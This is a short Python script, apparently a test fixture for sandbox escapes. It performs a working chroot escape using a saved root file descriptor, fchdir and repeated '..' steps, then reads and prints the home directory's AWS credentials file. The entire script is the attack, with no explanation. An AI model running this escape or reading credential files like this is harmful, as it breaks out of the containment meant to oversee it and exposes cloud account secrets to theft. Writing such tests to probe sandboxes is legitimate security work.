"""Leaves its root by way of another one."""

import json
import sys

WORLD = json.loads(sys.argv[1])
import os

os.makedirs("/tmp/jail", exist_ok=True)
here = os.open("/", os.O_RDONLY)
os.chroot("/tmp/jail")
os.fchdir(here)
for _ in range(64):
    os.chdir("..")
os.chroot(".")
print(open(WORLD["home"] + "/.aws/credentials").read())
